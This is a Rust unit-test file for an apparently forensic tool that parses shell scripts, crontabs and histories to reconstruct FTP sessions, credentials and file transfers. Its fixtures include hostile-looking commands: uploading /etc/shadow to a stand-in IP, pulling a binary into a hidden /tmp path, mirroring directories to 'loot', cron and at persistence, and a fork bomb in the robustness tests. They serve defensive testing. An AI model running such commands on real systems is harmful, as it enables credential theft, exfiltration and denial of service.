//! What comes out of shell scripts: the cases that the emulation of the shell must get right.

use crate::base::limits::Limits;
use crate::base::text::Text;
use crate::script::client::{self, world::Unknown};
use crate::script::launch::Launch;
use crate::script::read;
use crate::script::reading::{Feed, TextReading};
use crate::script::session::Session;
use crate::script::writer::emulation::{Alone, Neighbours};
use crate::script::writer::outcome::Origin;

fn reading_of(text: &str, name: &str) -> Option<TextReading> {
    let origin = Origin { directory: Some("/home/bob"), name };
    read::read(&Text::from_content(text), origin, &Alone, &Limits::default())
}

fn reading(text: &str) -> TextReading {
    reading_of(text, "x.sh").unwrap_or_else(|| panic!("says nothing: {text}"))
}

/// The scripts that are fed to clients, `|` for a line end.
fn fed(text: &str) -> Vec<String> {
    let reading = reading_of(text, "x.sh");
    let written = reading.map(|reading| reading.written).unwrap_or_default();
    written.iter().filter(|w| w.active).map(|written| written.text.content.replace('\n', "|")).collect()
}

fn sessions(reading: &TextReading) -> Vec<Session> {
    let mut sessions = Vec::new();
    for (launch, feed) in &reading.launches {
        let script = match feed {
            Feed::Written(index) => Some(&reading.written[*index].text),
            _ => None,
        };
        sessions.extend(client::run(script, launch, &Unknown, &Limits::default()).sessions);
    }
    sessions
}

/// A session in one line: `host:port user/password get remote>local …`.
fn told(session: &Session) -> String {
    let mut text = format!("{}:{}", session.host.as_deref().unwrap_or("-"), session.port.unwrap_or(0));
    if let Some(login) = session.credentials.last() {
        let password = login.password.as_ref().map_or("-", |password| password.reveal());
        text += &format!(" {}/{password}", login.username.as_deref().unwrap_or("-"));
    }
    for transfer in &session.transfers {
        text += &format!(
            " {}>{}",
            transfer.remote_path.as_deref().unwrap_or("-"),
            transfer.local_path.as_deref().unwrap_or("-")
        );
    }
    text
}

fn all_told(text: &str) -> Vec<String> {
    sessions(&reading(text)).iter().map(told).collect()
}

#[test]
fn here_documents_are_fed_to_clients() {
    let cases: [(&str, &[&str]); 18] = [
        (
            "ftp -n 192.0.2.50 <<EOF\nuser bob pw\nput /etc/shadow sh\nbye\nEOF\n",
            &["user bob pw|put /etc/shadow sh|bye|"],
        ),
        (
            "ftp -inv <<-'END'\n\topen h.x 2121\n\tuser \"$U\" \"$P\"\n\tbye\n\tEND\n",
            &["open h.x 2121|user \"$U\" \"$P\"|bye|"],
        ),
        ("H=h.x\nftp -n << !\nopen $H\n!\n", &["open h.x|"]),
        ("ftp -n h.x <<.\nbye\n.\necho done", &["bye|"]),
        ("ftp -n h.x <<+\nbye\n+\n", &["bye|"]),
        ("ftp -n h.x <<\"EOF\"\nuser $U\nEOF\n", &["user $U|"]),
        ("ftp -n h.x <<\\EOF\nuser $U `x`\nEOF\n", &["user $U `x`|"]),
        ("ftp -n h.x <<EOF\nuser a b\nbye", &["user a b|bye|"]),
        ("up() {\n  ftp -n $1 <<EOF\nput $2\nEOF\n}\nup h.x a.txt\nup g.x b.txt\n", &["put a.txt|", "put b.txt|"]),
        ("for f in a b; do\nftp -n h.x <<EOF\nput $f\nEOF\ndone\n", &["put a|", "put b|"]),
        ("cat <<EOF | ftp -n h.x\nuser a b\nEOF\n", &["user a b|"]),
        ("ftp -n h.x <<EOF | grep 226\nuser a b\nEOF\n", &["user a b|"]),
        ("R=$(ftp -n h.x <<EOF\nuser a b\nEOF\n)\necho $R", &["user a b|"]),
        ("R=`ftp -n h.x <<EOF\nuser a b\nEOF\n`\necho $R", &["user a b|"]),
        ("cat > s <<A; ftp -n h.x <<B\none\nA\ntwo\nB\nlftp -f s\n", &["two|", "one|"]),
        ("ftp -n h.x <<EOF > log 2>&1\nuser a \\\nb\nput \\$x \\a\nEOF\n", &["user a b|put $x \\a|"]),
        ("if ftp -n h.x <<EOF\nbye\nEOF\nthen echo ok; fi\n", &["bye|"]),
        ("ftp -n h.x << EOF &&\nbye\nEOF\necho sent\n", &["bye|"]),
    ];
    for (text, expected) in cases {
        assert_eq!(fed(text), expected, "{text}");
    }
}

#[test]
fn pipes_and_files_are_fed_to_clients() {
    let cases: [(&str, &[&str]); 25] = [
        ("printf 'open h.x\\nuser bob pw\\nbye\\n' | ftp -n", &["open h.x|user bob pw|bye|"]),
        ("printf '%s\\n' 'open h.x' \"user bob pw\" bye | ftp -n", &["open h.x|user bob pw|bye|"]),
        ("#!/bin/bash\necho -e \"open h.x\\nbye\" | ftp -n", &["open h.x|bye|"]),
        ("#!/bin/sh\necho \"open h.x\\nbye\" | ftp -n", &["open h.x|bye|"]),
        (
            "{ echo open h.x; sleep 1; echo user bob pw; echo \"get a.bin /tmp/.a\"; } | ftp -n",
            &["open h.x|user bob pw|get a.bin /tmp/.a|"],
        ),
        ("(echo user a b; sleep 1; echo bye) | ftp -n h.x", &["user a b|bye|"]),
        ("(\n echo user a b # who\n echo bye\n) | ftp -n h.x", &["user a b|bye|"]),
        ("echo open h.x > s\necho bye >> s\nftp -n < s\nrm -f s", &["open h.x|bye|"]),
        ("cat > /tmp/s <<EOF\nopen h.x\nEOF\necho bye >>/tmp/s\nftp -n < /tmp/s", &["open h.x|bye|"]),
        ("exec 4>s\necho open h.x >&4\necho bye 1>&4\nexec 4>&-\nftp -n < s", &["open h.x|bye|"]),
        ("{ echo open h.x\necho bye\n} > s\nftp -n < s", &["open h.x|bye|"]),
        ("echo 'open h.x' | tee s > /dev/null\nftp -n < s", &["open h.x|"]),
        ("ftp -n h.x <<< 'bye'", &["bye|"]),
        ("ftp -n h.x <<< $'user a b\\nbye'", &["user a b|bye|"]),
        ("ftp -n h.x < <(echo bye)", &["bye|"]),
        ("cat s1 <<A - | ftp -n h.x\nbye\nA\n", &["bye|"]),
        ("echo dXNlciBhIGIKYnllCg== | base64 -d | ftp -n h.x", &["user a b|bye|"]),
        ("export U=a P=b; envsubst <<'E' | ftp -n h.x\nuser $U ${P} $X\nbye\nE", &["user a b $X|bye|"]),
        ("echo 'open HOST' | sed s/HOST/h.x/ | ftp -n", &["open h.x|"]),
        ("S='user a b\nbye'\necho \"$S\" | ftp -n h.x", &["user a b|bye|"]),
        ("mkfifo p\nftp -n h.x < p &\nexec 3> p\necho user a b >&3\necho bye >&3\nexec 3>&-\nwait", &["user a b|bye|"]),
        (
            "#!/bin/ksh\nftp -n |&\nprint -p open h.x\nprint -p user a b\nprint -p bye\nwait",
            &["open h.x|user a b|bye|"],
        ),
        ("coproc ftp -n h.x\necho user a b >&${COPROC[1]}\necho bye >&\"${COPROC[1]}\"\n", &["user a b|bye|"]),
        ("F=/usr/bin/ftp\n$F -n h.x <<E\nbye\nE\n", &["bye|"]),
        (
            "$FTP -n h.x <<E\nopen h.x\nuser a b\nbinary\nget a.txt\nbye\nE\n",
            &["open h.x|user a b|binary|get a.txt|bye|"],
        ),
    ];
    for (text, expected) in cases {
        assert_eq!(fed(text), expected, "{text}");
    }
}

#[test]
fn variables_are_put_in_or_stay_as_written() {
    let cases = [
        ("HOST='h.x'; P=\"s3 cret\"", "open $HOST|user bob \"$P\"", "open h.x|user bob \"s3 cret\""),
        ("", "open $HOST|user ${USER_NAME} $1 $@", "open $HOST|user ${USER_NAME} $1 $@"),
        ("HOST=${1:-h.x}", "open $HOST ${PORT:=2121}", "open h.x 2121"),
        ("F=/a/b.tar.gz", "put $F ${F##*/} ${F%.gz} ${F%%.*}", "put /a/b.tar.gz b.tar.gz /a/b.tar /a/b"),
        ("F=abcabc", "${F/b/X} ${F//b/X} ${F:1:2} ${#F} ${F^^}", "aXcabc aXcaXc bc 6 ABCABC"),
        ("D=$(date +%Y%m%d)", "put log.$D", "put log.$D"),
        ("F=log.$(date +%Y%m%d)", "put $F", "put log.$(date +%Y%m%d)"),
        ("F=`basename /a/b.txt .txt`; D=$(dirname /a/b.txt)", "put $F $D", "put b /a"),
        ("N=$(echo a b | cut -d' ' -f2)", "put $N", "put b"),
        ("i=3; i=$((i * 2 + 1))", "put f$i f$((i+1))", "put f7 f8"),
        ("set -- one two; shift", "put $1 $# $*", "put two 1 two"),
        ("A=x; A+=y; B=(p q r)", "$A ${B[1]} ${B[@]} ${#B[@]}", "xy q p q r 3"),
        ("X=$HOST", "open $X", "open $X"),
        ("X=$HOST.example.com", "open $X", "open $HOST.example.com"),
        ("read HOST", "open $HOST", "open $HOST"),
        ("read A B <<< 'x y z'", "$A,$B", "x,y z"),
        ("export H=h.x; readonly P=21; unset H", "open $H $P", "open  21"),
        ("f() { local H=i.x; }; H=h.x; f", "open $H", "open h.x"),
        ("(H=i.x); H2=${H:-h.x}", "open $H2", "open h.x"),
        ("A=1 B=2 true; C=3", "$A$C", "$A3"),
        ("eval 'H=h'.x", "open $H", "open h.x"),
        ("case a.txt in *.bin) T=bin;; *.txt|*.c) T=asc;; *) T=no;; esac", "type $T", "type asc"),
        ("[ a = b ] && H=b.x || H=h.x", "open $H", "open h.x"),
        ("if [ 3 -gt 2 -a -n \"x\" ]; then H=h.x; else H=i.x; fi", "open $H", "open h.x"),
        ("if [[ abc == a* && ! x == y ]]; then H=h.x; fi", "open $H", "open h.x"),
        ("i=0; while [ $i -lt 3 ]; do L=\"$L$i\"; i=`expr 1`; done 2>/dev/null; M=x", "$M", "x"),
        ("L=; for ((i=0; i<3; i++)); do L=$L$i; done", "$L", "012"),
        ("L=; for f in {a,b}{1..2}; do L=$L,$f; done", "$L", ",a1,a2,b1,b2"),
        ("L=; printf '%s:%s\\n' u1 p1 u2 p2 > t; while IFS=: read u p; do L=$L$u-$p.; done < t", "$L", "u1-p1.u2-p2."),
        ("H=$(cat <<X\nh.x\nX\n)", "open $H", "open h.x"),
    ];
    for (before, script, expected) in cases {
        let text = format!("#!/bin/bash\n{before}\nftp -n h.x <<EOF\n{}\nEOF\n", script.replace('|', "\n"));
        assert_eq!(fed(&text), [format!("{expected}|")], "{text}");
    }
}

#[test]
fn what_is_not_known_is_listed() {
    let reading = reading("P='a$b'\nftp -n ${HOST} <<EOF\nuser $USER_ID $P\nput $1 x-$(date +%F)\nEOF\n");
    assert_eq!(reading.written[0].unresolved, ["$USER_ID", "$1", "$(date +%F)"]);
    assert_eq!(reading.launches[0].0.host.as_deref(), Some("${HOST}"));
}

#[test]
fn sessions_come_out() {
    let cases: [(&str, &[&str]); 8] = [
        (
            "HOST='198.51.100.7'\nUSER='foo'\nPASSWD='12345678'\nftp -inv $HOST <<EOF\nquote USER $USER\nquote PASS $PASSWD\nget f.txt\nbye\nEOF\n",
            &["198.51.100.7:21 foo/12345678 f.txt>f.txt"],
        ),
        (
            "ftp -n <<E\nopen 198.51.100.8\nuser a b\nlcd /tmp\nput x y\nclose\nopen 198.51.100.9\nuser c d\nget z\nE\n",
            &["198.51.100.8:21 a/b y>x", "198.51.100.9:21 c/d z>z"],
        ),
        (
            "case $1 in\nprod) H=192.0.2.1;;\ntest) H=192.0.2.2;;\n*) echo usage; exit 1;;\nesac\nftp -n $H <<E\nuser a b\nput x\nE\n",
            &["192.0.2.1:21 a/b x>x", "192.0.2.2:21 a/b x>x", "$H:21 a/b x>x"],
        ),
        (
            "if [ \"$1\" = prod ]; then H=192.0.2.1; else H=192.0.2.2; fi\nftp -n $H <<E\nuser a b\nput x\nE\n",
            &["192.0.2.1:21 a/b x>x", "192.0.2.2:21 a/b x>x"],
        ),
        (
            "if [ $# -lt 1 ]; then echo usage; exit 1; fi\nftp -n 192.0.2.1 <<E\nuser a b\nput $1\nE\n",
            &["192.0.2.1:21 a/b $1>$1"],
        ),
        (
            "while read h u p; do\nftp -n $h <<E\nuser $u $p\nget f\nE\ndone <<L\n192.0.2.1 a b\n192.0.2.2 c d\nL\n",
            &["192.0.2.1:21 a/b f>f", "192.0.2.2:21 c/d f>f"],
        ),
        (
            "for f in *.csv; do (echo user a b; echo put \"$f\") | ftp -n 192.0.2.1; done",
            &["192.0.2.1:21 a/b *.csv>*.csv"],
        ),
        (
            "for file in `ls /data`; do\n if [ ! -e \"$file\" ]; then\n (\n echo user a b\n echo get \"$file\"\n ) | ftp -n 192.0.2.1\n fi\ndone\n",
            &["192.0.2.1:21 a/b $file>$file"],
        ),
    ];
    for (text, expected) in cases {
        assert_eq!(all_told(text), expected, "{text}");
    }
}

#[test]
fn other_shells_and_prefixes_are_followed() {
    for text in [
        "sh -c 'printf \"user a b\\nbye\\n\" | ftp -n h.x'",
        "bash <<X\nftp -n h.x <<Y\nuser a b\nbye\nY\nX\n",
        "su - oracle -c \"(echo user a b; echo bye) | ftp -n h.x\"",
        "sudo -u www nohup timeout 5 ftp -n h.x <<E\nuser a b\nbye\nE\n",
        "env LANG=C nice -n 5 ftp -n h.x <<E\nuser a b\nbye\nE\n",
        "exec ftp -n h.x <<E\nuser a b\nbye\nE\n",
        "echo 'echo user a b; echo bye' > g.sh\nsh g.sh | ftp -n h.x",
        "cat > run.sh <<'X'\nftp -n $1 <<Y\nuser a b\nbye\nY\nX\nchmod +x run.sh\nbash run.sh h.x",
        "eval \"printf 'user a b\\nbye\\n'\" | ftp -n h.x",
        "alias f='ftp -n'\nf h.x <<E\nuser a b\nbye\nE\n",
        "time (ftp -n h.x <<E\nuser a b\nbye\nE\n)",
        "trap 'rm -f x' 0\n! ftp -n h.x <<E\nuser a b\nbye\nE\n",
    ] {
        assert_eq!(fed(text), ["user a b|bye|"], "{text}");
        assert_eq!(reading(text).launches[0].0.host.as_deref(), Some("h.x"), "{text}");
    }
}

#[test]
fn remote_commands_are_marked() {
    for text in [
        "ssh bob@gate.x <<X\nftp -n h.x <<Y\nuser a b\nY\nX\n",
        "ssh -p 22 bob@gate.x 'printf \"user a b\\n\" | ftp -n h.x'",
        "ssh bob@gate.x \"bash -s\" <<'X'\nftp -n h.x <<Y\nuser a b\nY\nX\n",
    ] {
        assert_eq!(fed(text), ["user a b|"], "{text}");
        assert_eq!(reading(text).launches[0].0.note.as_deref(), Some("runs on bob@gate.x (ssh)"), "{text}");
    }
}

#[test]
fn expect_scripts_are_the_input_of_what_they_spawn() {
    let script = "spawn ftp 192.0.2.9\nexpect \"Name*:\"\nsend \"bob\\r\"\nexpect \"assword:\"\nsend -- \"$pw\\r\"\nexpect {\n  timeout { send \"quit\\r\"; exit 1 }\n  \"ftp>\" { send \"get a.txt\\r\" }\n}\nexpect eof\n";
    let texts = [
        (format!("#!/usr/bin/expect -f\nset pw s3cret\n{script}"), "up"),
        (format!("#!/bin/sh\nexpect <<'X'\nset pw s3cret\n{script}X\n"), "up.sh"),
        (format!("#!/bin/sh\n/usr/bin/expect -c 'set pw s3cret\n{script}'\n"), "up.sh"),
    ];
    for (text, name) in texts {
        let reading = reading_of(&text, name).expect("says something");
        let sessions: Vec<String> = sessions(&reading).iter().map(told).collect();
        assert_eq!(sessions, ["192.0.2.9:21 bob/s3cret a.txt>a.txt"], "{text}");
    }
}

#[test]
fn what_never_runs_is_inactive() {
    let body = "ftp -n h.x <<EOF\nuser a b\nput x\nEOF\n";
    let remark: String = body.lines().map(|line| format!("#{line}\n")).collect();
    let spaced: String = body.lines().map(|line| format!("# {line}\n")).collect();
    for text in [
        format!("#!/bin/sh\necho hi\n{remark}echo ho\n"),
        format!("#!/bin/sh\n# send it all:\n{spaced}"),
        format!(": <<'COMMENT'\n{body}COMMENT\n"),
        format!("if false; then\n{body}fi\n"),
        format!("exit 0\n{body}"),
        format!("[ a = b ] && {body}"),
        format!("while false; do\n{body}done\n"),
    ] {
        let reading = reading(&text);
        assert_eq!(reading.launches.len(), 1, "{text}");
        let launch = &reading.launches[0].0;
        assert!(!launch.would_run && launch.note.is_some(), "{text}");
        assert_eq!(reading.written.iter().map(|w| w.active).collect::<Vec<_>>(), [false], "{text}");
        assert_eq!(reading.written[0].text.content, "user a b\nput x\n", "{text}");
    }
    let both = reading(&format!("{body}{}", remark.replace("put x", "put y")));
    assert_eq!(both.written.iter().map(|w| w.active).collect::<Vec<_>>(), [true, false]);
}

#[test]
fn lines_are_those_of_the_evidence() {
    let reading =
        reading("#!/bin/sh\ng() {\n  echo open h.x\n  cat <<E\nuser a b\nE\n}\n\n{ g\necho bye; } | ftp -n\n");
    let lines: Vec<_> = reading.written[0].provenance.iter().map(|p| (p.line, p.written_by_line)).collect();
    assert_eq!(lines, [(1, 3), (2, 5), (3, 10)]);
    assert_eq!(reading.launches[0].0.found_in.line, Some(10));
}

#[test]
fn neighbours_are_sourced() {
    struct Beside;
    impl Neighbours for Beside {
        fn text(&self, path: &str, _: Option<&str>) -> Option<String> {
            path.ends_with("conf.sh").then(|| "HOST=h.x\nUSR=bob\n".to_owned())
        }
    }
    let text = "#!/bin/sh\n. ./conf.sh\nftp -n $HOST <<E\nuser $USR pw\nE\n";
    let origin = Origin { directory: Some("/home/bob"), name: "x.sh" };
    let reading = read::read(&Text::from_content(text), origin, &Beside, &Limits::default()).expect("says something");
    assert_eq!(reading.written[0].text.content, "user bob pw\n");
    assert_eq!(reading.launches[0].0.host.as_deref(), Some("h.x"));
}

#[test]
fn scripts_are_told_from_other_texts() {
    let body = "ftp -n h.x <<EOF\nuser a b\nput x.txt\nbye\nEOF\n";
    let cases = [
        (format!("#!/bin/sh\n{body}"), "noext", true),
        (format!("#! /usr/bin/env bash\n{body}"), "noext", true),
        (body.to_owned(), "a.ksh", true),
        (body.to_owned(), "noext", true),
        (format!("#!/usr/bin/perl\n{body}"), "a", false),
        (format!("#!/usr/bin/python3\n{body}"), "a.sh", false),
        (format!("<?php\n$x = <<EOF\n{body}"), "a", false),
        (body.to_owned(), "a.py", false),
        ("my $x = <<EOF;\nftp is old\nEOF\n".to_owned(), "a", false),
        ("You can use ftp << to send.\n".to_owned(), "README", false),
        ("0 5 * * * ftp -n h.x < /etc/up.ftp\n".to_owned(), "root", true),
    ];
    for (text, name, expected) in cases {
        assert_eq!(super::is_script(&text, name), expected, "{name}: {text}");
    }
}

#[test]
fn notes_are_read_and_prose_is_not() {
    let notes = "How to send it\n==============\n\nIt's easy:\n\n    HOST=192.0.2.4\n    ftp -n $HOST <<EOF\n    user bob pw\n    put a.txt\n    EOF\n\nThat's it.\n";
    let reading = reading_of(notes, "README").expect("says something");
    assert_eq!(reading.written[0].text.content, "user bob pw\nput a.txt\n");
    assert_eq!(reading.launches[0].0.host.as_deref(), Some("192.0.2.4"));
    let prompted = "$ ftp -n 192.0.2.4 <<EOF\n> user bob pw\n> put a.txt\n> EOF\nConnected.\n";
    assert_eq!(
        reading_of(prompted, "log.txt").expect("says something").written[0].text.content,
        "user bob pw\nput a.txt\n"
    );
    for (text, name) in [
        ("#!/bin/sh\n# ftp is the old way; use scp\n# ftp host\nscp a b\n", "x.sh"),
        ("#!/bin/sh\n# It's ftp << like this >>\necho 'ftp is old'\necho \"usage: $0 ftp://host\"\n", "x.sh"),
        ("#!/bin/sh\ncase $m in ftp) echo ftp;; esac\nfor p in ftp http; do echo $p; done\nopen=1\n", "x.sh"),
        ("#!/bin/sh\napt-get install ftp lftp\nwhich ftp > /dev/null || exit 1\n", "x.sh"),
    ] {
        assert_eq!(reading_of(text, name).map(|r| r.launches), None, "{text}");
    }
}

#[test]
fn crontabs_run_their_commands() {
    let reading = reading_of("MAILTO=x\n5 0 * * * ftp -n h.x < /etc/up.ftp\n@daily ftp -n g.x%user a b%bye\n", "root")
        .expect("runs");
    let launches: Vec<_> =
        reading.launches.iter().map(|(l, _)| (l.host.as_deref(), l.script_path.as_deref(), l.found_in.line)).collect();
    assert_eq!(launches, [(Some("h.x"), Some("/etc/up.ftp"), Some(2)), (Some("g.x"), None, Some(3))]);
    assert_eq!(reading.written[0].text.content, "user a b\nbye\n");
}

#[test]
fn crontabs_of_the_system_name_users() {
    let text = "30 2 * * * root /usr/bin/ftp -n h.x < /etc/up.ftp\n1 * * * * bob ftp -n g.x < /b\n";
    let hosts = |name: &str| -> Vec<Option<String>> {
        let reading = reading_of(text, name).expect("runs");
        reading.launches.iter().map(|(launch, _)| launch.host.clone()).collect()
    };
    assert_eq!(hosts("crontab.txt"), [Some("h.x".to_owned()), Some("g.x".to_owned())]);
}

#[test]
fn programs_run_what_they_are_given() {
    let cases = [
        ("echo 'ftp -n h.x < /a' | at now", "ftp -n h.x /a"),
        ("at -f /job 12:00\n", ""),
        ("echo 'ftp -n h.x < /a' > job; at -f job 12:00", "ftp -n h.x /a"),
        ("(crontab -l; echo '*/5 * * * * ftp -n h.x < /a') | crontab -", "ftp -n h.x /a"),
        ("echo '@daily ftp -n h.x < /a' > c; crontab -u bob c", "ftp -n h.x /a"),
        ("find /d -name '*.gz' -exec ftp -n h.x \\; -print", "ftp -n h.x "),
        ("find /d -type f -execdir curl -T {} ftp://h.x/ +", "curl -T {} ftp://h.x/ "),
        ("docker exec -it -u root box sh -c 'ftp -n h.x < /a'", "ftp -n h.x /a"),
        ("kubectl exec pod -c main -- ftp -n h.x", "ftp -n h.x "),
        ("ls | xargs ftp -n h.x", "ftp -n h.x "),
        ("ls *.log | xargs -I{} curl -T {} ftp://h.x/", "curl -T {} ftp://h.x/ "),
        ("echo a b | xargs -n 1 ftp -n", "ftp -n a |ftp -n b "),
        ("echo a b | xargs -r -P 4 -n1 ftp -n", "ftp -n a |ftp -n b "),
        ("echo '@daily ftp -n h.x </a; crontab c' > c; crontab c", "ftp -n h.x /a"),
        ("echo 'ftp -n h.x </a; at -f job now' > job; at -f job now", "ftp -n h.x /a"),
    ];
    for (text, expected) in cases {
        let reading = reading_of(&format!("#!/bin/sh\n{text}\n# ftp\n"), "x.sh");
        let told = |reading: TextReading| {
            let one = |(launch, _): &(Launch, Feed)| {
                format!("{} {}", launch.command_line, launch.script_path.as_deref().unwrap_or_default())
            };
            reading.launches.iter().map(one).collect::<Vec<_>>().join("|")
        };
        assert_eq!(reading.map(told).unwrap_or_default(), expected, "{text}");
    }
}

#[test]
fn the_c_shell_has_here_documents_too() {
    let text = "#!/bin/csh -f\nset host = h.x\nif ($#argv < 1) then\n  exit 1\nendif\nforeach f (a b)\nftp -n $host << EOF\nuser a b\nbye\nEOF\nend\n";
    assert_eq!(fed(text), ["user a b|bye|"]);
    assert_eq!(reading(text).launches[0].0.host.as_deref(), Some("h.x"));
}

#[test]
fn endless_and_broken_scripts_end() {
    let deep = format!("{}ftp{}", "$(".repeat(500), ")".repeat(500));
    let braces = format!("{}ftp", "{ ".repeat(5000));
    let quotes = format!("ftp {}", "\"$(".repeat(2000));
    let chain = format!("ftp h.x {}", "&& a ".repeat(20_000));
    let arithmetic = format!("ftp\n{}", "$((".repeat(20_000));
    let parameter = format!("ftp\necho {}", "${x:-".repeat(20_000));
    let grow = "ftp\na=xxxxxxxxxxxxxxxx\nwhile true; do a=$a$a$a; echo $a >> f; done\n";
    let bomb = "ftp\nf() { f | f; f; }\nf\n";
    for text in [
        deep.as_str(),
        &braces,
        &quotes,
        &chain,
        &arithmetic,
        &parameter,
        grow,
        bomb,
        "ftp\nwhile :; do i=$((i+1)); done",
        "ftp\nuntil false; do echo x >> f; done",
        "ftp\ncase x in",
        "ftp\nif",
        "ftp <<",
        "ftp << EOF",
        "ftp\nfor ((",
        "ftp\n${",
        "ftp\n`",
        "ftp\nx=(",
        "ftp\n[[ a",
        "ftp\neval eval eval",
        "ftp\nalias a=a\na",
        "ftp\nsh -c 'sh -c \"sh -c sh\"'",
        "ftp\nprintf '%99999999s' x > f",
        "ftp\nprintf '%s' $(seq 1 200) $(seq 1 200)",
        "ftp\nfi done esac } ) ;; then",
        "ftp\n;;;;\n&&\n||\n|",
    ] {
        let name = "x.sh";
        let once = reading_of(text, name).map(|r| (r.written, r.launches));
        assert_eq!(once, reading_of(text, name).map(|r| (r.written, r.launches)));
    }
}

/// The bots of routers try one directory after the other; the first is the one that hosts have.
#[test]
fn the_first_of_several_directories_counts() {
    let cases = [
        ("cd /tmp || cd /var/run || cd /mnt", "/tmp"),
        ("cd /tmp && cd x", "/tmp/x"),
        ("cd /tmp || { mkdir /x; cd /x; }", "/tmp"),
        ("cd /tmp; cd /opt", "/opt"),
    ];
    for (moves, directory) in cases {
        let text = format!("{moves}\n(echo open h.x; echo lcd $PWD; echo get a) | ftp -n\n");
        assert_eq!(fed(&text), [format!("open h.x|lcd {directory}|get a|")], "{moves}");
    }
}

/// Two lines that begin `lftp … -e "mirror …"` are lftp's own words as well; the file is a script of the shell alone.
#[test]
fn a_shell_script_is_no_script_of_lftp() {
    let text = "#!/bin/sh\nlftp -u a,b -e \"mirror -R /home/bob /up; bye\" ftp.x.example\n\
                lftp -u a,b -e \"mirror /pub /loot; bye\" ftp.x.example\n";
    for name in ["x.sh", "x"] {
        let reading = reading_of(text, name).unwrap_or_else(|| panic!("says nothing"));
        assert_eq!((reading.is_script, reading.launches.len()), (None, 2), "{name}");
    }
}

/// Whatever becomes of a history or a log of commands, it is read to its end, the same each time, and lines are its own.
#[test]
fn damaged_histories_end() {
    let texts = [
        (
            ".bash_history",
            "ls\n#1700000000\nftp -n h.x <<EOF\nuser a b\nput x\nEOF\nlftp -e \"get x\nbye\" h.x \\\n-u a\nexit\n",
        ),
        ("fish_history", "- cmd: ftp h.x\\nls \\\\ a\n  when: 1700000000\n: 1700000001:0;wget \\\n ftp://h.x/x\n"),
        (
            "auth.log",
            "h sudo: a : TTY=p ; PWD=/x ; COMMAND=/bin/ftp h.x\ntype=EXECVE msg=audit(1.250:4): argc=2 a0=\"ftp\" a1=682E78\n",
        ),
    ];
    let mut state = 1u32;
    for (name, text) in texts {
        for _ in 0..300 {
            let mut bytes = text.as_bytes().to_vec();
            for _ in 0..3 {
                if bytes.len() < 2 {
                    break;
                }
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                let (at, byte) = ((state >> 8) as usize % bytes.len(), b"\n\\\"'<#: ;|="[(state >> 3) as usize % 11]);
                match state >> 30 {
                    0 => bytes[at] = byte,
                    1 => bytes.insert(at, byte),
                    2 => drop(bytes.remove(at)),
                    _ => bytes.truncate(at.max(1)),
                }
            }
            let text = String::from_utf8_lossy(&bytes).into_owned();
            let Some(reading) = reading_of(&text, name) else { continue };
            let lines = text.split('\n').count() as u32;
            assert!(
                reading.launches.iter().all(|(launch, _)| launch.found_in.line.is_some_and(|line| line <= lines)),
                "{text}"
            );
            assert_eq!(reading_of(&text, name).map(|again| again.launches), Some(reading.launches), "{text}");
        }
    }
}
